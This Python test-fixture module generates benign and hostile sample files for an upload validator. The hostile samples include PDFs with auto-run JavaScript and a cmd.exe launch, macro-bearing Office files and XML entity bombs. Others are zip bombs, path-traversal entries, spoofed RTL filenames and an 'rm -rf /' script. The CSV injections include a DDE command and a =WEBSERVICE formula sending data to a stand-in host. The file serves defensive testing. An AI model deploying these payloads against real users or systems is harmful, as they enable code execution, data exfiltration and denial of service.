"""Files made by code: what people honestly send, and what someone might try."""

import io
import random
import struct
import zipfile
import zlib

from PIL import Image

OOXML = {
    "docx": ("word/document.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"),
    "xlsx": ("xl/workbook.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"),
    "pptx": (
        "ppt/presentation.xml",
        "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
    ),
}
ODF = {
    "odt": "application/vnd.oasis.opendocument.text",
    "ods": "application/vnd.oasis.opendocument.spreadsheet",
    "odp": "application/vnd.oasis.opendocument.presentation",
}
PDF = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'


def picture(form="PNG", size=(24, 16), mode="RGB", **saved):
    """A small picture."""
    out = io.BytesIO()
    Image.new(mode, size, {"L": 90, "RGBA": (10, 20, 90, 120)}.get(mode, "navy")).save(out, form, **saved)
    return out.getvalue()


def located():
    """A photograph that says where it was taken, and with what."""
    exif = Image.Exif()
    exif[0x010F] = "Appareil de Salma"
    exif[0x0112] = 6  # turned by a quarter
    exif.get_ifd(0x8825)[1] = "N"
    exif.get_ifd(0x8825)[2] = (33.0, 53.0, 4.0)
    return picture("JPEG", exif=exif.tobytes(), comment=b"chez moi")


def archive(parts, compression=zipfile.ZIP_DEFLATED):
    """An archive of these parts, in their order."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as made:
        for name, content in parts:
            made.writestr(name, content)
    return out.getvalue()


def ooxml(kind, extra=(), types="", main=b"<document/>", drop=()):
    """An Office document."""
    part, content_type = OOXML[kind]
    declared = types or f'<Types><Override PartName="/{part}" ContentType="{content_type}"/></Types>'
    parts = [("[Content_Types].xml", declared), ("_rels/.rels", "<Relationships/>"), (part, main), *extra]
    return archive([each for each in parts if each[0] not in drop])


def odf(kind, extra=(), content=b"<office:document-content/>", mimetype=None):
    """An OpenDocument."""
    parts = [("mimetype", mimetype or ODF[kind]), ("content.xml", content), ("META-INF/manifest.xml", "<m/>"), *extra]
    return archive(parts)


def relation(kind, target):
    """A part that leads outside the document."""
    base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    return (
        f'<Relationships><Relationship Id="r1" Type="{base}/{kind}" Target="{target}" TargetMode="External"/>'
        "</Relationships>"
    )


def huge_png(width, height):
    """The head of a picture that claims to be huge."""

    def chunk(name, body):
        return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"\0" * 1000)) + chunk(b"IEND", b"")
    )


def packed_pdf(inner):
    """A PDF that keeps its objects packed."""
    body = zlib.compress(inner)
    head = f"%PDF-1.7\n1 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length {len(body)} >>\nstream\n"
    return head.encode() + body + b"\nendstream\nendobj\n%%EOF\n"


def packed_often(inner, times):
    """A PDF of many packed objects, each small until it is unpacked."""
    packed = b"<< /Type /ObjStm >>\nstream\n" + zlib.compress(inner, 9) + b"\nendstream\n"
    return b"%PDF-1.7\n" + packed * times + b"%%EOF\n"


def noisy_pdf():
    """A PDF whose packed picture holds every short sequence of bytes."""
    noise = random.Random(4).randbytes(400_000)
    return b"%PDF-1.4\n1 0 obj\n<< /Length 400000 >>\nstream\n" + noise + b"\nendstream\nendobj\n%%EOF\n"


def forged(content, name, size):
    """An archive whose directory lies about the size of a part."""
    data = bytearray(content)
    entry = data.rindex(b"PK\x01\x02" + b"", 0, data.rindex(name.encode()))
    data[entry + 24 : entry + 28] = struct.pack("<I", size)
    return bytes(data)


GOOD = {
    "rapport.pdf": PDF,
    "M. Dupont, avis du 3.12.2026.pdf": PDF,
    "scan.pdf": noisy_pdf(),
    "tassé.pdf": packed_pdf(b"1 0 << /Type /Page >>"),
    "photo.jpg": picture("JPEG"),
    "photo.JPEG": picture("JPEG"),
    "lieu.jpg": located(),
    "gris.jpg": picture("JPEG", mode="L"),
    "plan.png": picture(),
    "transparent.png": picture(mode="RGBA"),
    "palette.png": picture(mode="P"),
    "vue.webp": picture("WEBP"),
    "lettre.docx": ooxml("docx"),
    "lien.docx": ooxml("docx", [("word/_rels/document.xml.rels", relation("hyperlink", "https://example.org/"))]),
    "illustré.docx": ooxml("docx", [("word/media/image1.png", picture())]),
    "tableau.xlsx": ooxml("xlsx"),
    "diapos.pptx": ooxml("pptx"),
    "note.odt": odf("odt"),
    "budget.ods": odf("ods"),
    "exposé.odp": odf("odp"),
    "note.txt": "Réunion à 9 h.\r\n".encode(),
    "ancien.txt": "Réunion à Gabès".encode("cp1252"),
    "محضر الجلسة.txt": "محضر الجلسة\n".encode(),
    "releve.csv": "commune;m3\nGabès;-12,5\n=SOMME(B1:B2);3\n".encode(),
    "bom.csv": "\ufeffcommune,m3\n".encode(),
    "انبعاثات.pdf": PDF,
}

HOSTILE = {
    # not what the name says
    "programme.pdf": b"MZ\x90\x00" + b"\0" * 200,
    "page.pdf": HTML,
    "dessin.png": SVG,
    "autre.png": picture("JPEG"),
    "autre.jpg": picture(),
    "anime.webp": picture("GIF"),
    "pdf.docx": PDF,
    "zip.docx": archive([("a.txt", "bonjour")]),
    "tableur.docx": ooxml("xlsx"),
    "texte.ods": odf("odt"),
    "faux.odt": odf("odt", mimetype="application/zip"),
    "vide.zip.docx": b"PK\x05\x06" + b"\0" * 18,
    "coupe.png": picture(size=(400, 400))[:-60],
    "coupe.jpg": picture("JPEG", size=(400, 400))[:-200],
    "coupe.docx": ooxml("docx")[:-40],
    "sans-fin.pdf": PDF.replace(b"%%EOF", b""),
    "script.txt": b"#!/bin/sh\nrm -rf /\n",
    "page.txt": b"  \n" + HTML,
    "page.csv": b"a;b\n<script>alert(1)</script>",
    "binaire.txt": b"abc\x00def",
    "elf.csv": b"\x7fELF" + b"\0" * 60,
    "image.txt": picture(),
    # two faces
    "pdf-et-archive.pdf": PDF + archive([("x.class", b"x")]),
    "page-et-pdf.pdf": b"%PDF-1.4\n<html><script>alert(1)</script>\n" + PDF,
    "image-et-archive.png": picture() + archive([("x.txt", b"x")]),
    "image-et-archive.jpg": picture("JPEG") + archive([("x.txt", b"x")]),
    "image-et-page.jpg": picture("JPEG", comment=HTML),
    "devant.docx": b"%PDF-1.4\n" + ooxml("docx"),
    "derriere.docx": ooxml("docx") + PDF,
    # what acts by itself
    "js.pdf": PDF.replace(b"/Type", b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> /Type"),
    "js-masque.pdf": PDF.replace(b"/Type", b"/OpenAction << /S /J#61vaScript >> /Type"),
    "js-tasse.pdf": packed_pdf(b"1 0 << /S /JavaScript /JS (app.alert\\(1\\)) >>"),
    "lance.pdf": PDF.replace(b"/Type", b"/OpenAction << /S /Launch /F (cmd.exe) >> /Type"),
    "porte.pdf": PDF.replace(b"/Type", b"/Names << /EmbeddedFiles 3 0 R >> /Type"),
    "macros.docx": ooxml("docx", [("word/vbaProject.bin", b"\xd0\xcf")]),
    "macros-renommees.docx": ooxml(
        "docx",
        types='<Types><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.'
        'macroEnabled.main+xml"/></Types>',
    ),
    "macros4.xlsx": ooxml("xlsx", [("xl/macrosheets/sheet1.xml", b"<x/>")]),
    "activex.pptx": ooxml("pptx", [("ppt/activeX/activeX1.xml", b"<x/>")]),
    "objet.docx": ooxml("docx", [("word/embeddings/oleObject1.bin", b"x")]),
    "programme.docx": ooxml("docx", [("word/embeddings/outil.exe", b"MZ")]),
    "modele.docx": ooxml(
        "docx", [("word/_rels/settings.xml.rels", relation("attachedTemplate", "http://x.example/t.dotm"))]
    ),
    "cadre.docx": ooxml("docx", [("word/_rels/document.xml.rels", relation("frame", "http://x.example/a.html"))]),
    "entites.docx": ooxml("docx", main=b'<!DOCTYPE d [<!ENTITY a "aa"><!ENTITY b "&a;&a;">]><d>&b;</d>'),
    "entites16.docx": ooxml("docx", main='<!DOCTYPE d [<!ENTITY a "aa">]><d/>'.encode("utf-16")),
    "basic.odt": odf("odt", [("Basic/Standard/Module1.xml", b"<x/>")]),
    "scripts.ods": odf("ods", [("Scripts/python/a.py", b"x")]),
    "evenement.odp": odf("odp", content=b'<x><script:event-listener script:language="ooo:script"/></x>'),
    "dde.csv": b"nom;n\n=cmd|' /C calc'!A0;1\n",
    "web.csv": b'nom\n"=WEBSERVICE(""http://x.example/""&A1)"\n',
    # what fills the memory
    "bombe.docx": ooxml("docx", [("word/media/a.xml", b"\0" * 40_000_000)]),
    "bombe.odt": odf("odt", [("Pictures/a.bmp", b"\0" * 100_000_000)]),
    "mille.docx": ooxml("docx", [(f"word/media/{n}.png", b"") for n in range(3100)]),
    "menteur.docx": forged(ooxml("docx", [("word/media/a.png", b"\0" * 3_000_000)]), "word/media/a.png", 10),
    "immense.png": huge_png(60_000, 60_000),
    "longue.png": huge_png(200_000, 1),
    "large.png": huge_png(9_000, 9_000),
    # parts that lead astray
    "remonte.docx": ooxml("docx", [("../../etc/passwd", b"x")]),
    "absolu.docx": ooxml("docx", [("/etc/passwd", b"x")]),
    "double.docx": ooxml("docx", [("WORD/document.xml", b"<autre/>")]),
    # names
    "facture\u202efdp.exe.pdf": PDF,
    "facture\u202egpj.pdf": PDF,
    "isole\u2066.pdf": PDF,
    "invisible\u200b.pdf": PDF,
    "saut\nde-ligne.pdf": PDF,
    "cloche\x07.pdf": PDF,
    "photo.php.jpg": picture("JPEG"),
    "rapport.exe.pdf": PDF,
    "rapport.exe .pdf": PDF,
    "page.html.txt": b"bonjour",
    "macros.docm.docx": ooxml("docx"),
    # kinds that are not taken at all
    "dessin.svg": SVG,
    "page.html": HTML,
    "programme.exe": b"MZ\x90\x00",
    "macros.docm": ooxml("docx"),
    "archive.zip": archive([("a.txt", b"x")]),
    "sans-extension": PDF,
    ".htaccess": b"AddType application/x-httpd-php .jpg",
    "raccourci.lnk": b"L\0\0\0",
}

# small enough for any limit, and made so that a careless pattern never ends
TIRING = {
    "formulaires.odt": odf("odt", content=b"<form:" * 60_000),
    "relations.docx": ooxml("docx", extra=[("word/_rels/document.xml.rels", b"<" + b'TargetMode="External"' * 30_000)]),
    "signes.csv": b",=" * 1_000_000,
    "signes-et-programme.csv": b",=\n" * 500_000 + b"powershell",
    "programmes.csv": b"dde " * 500_000,
}
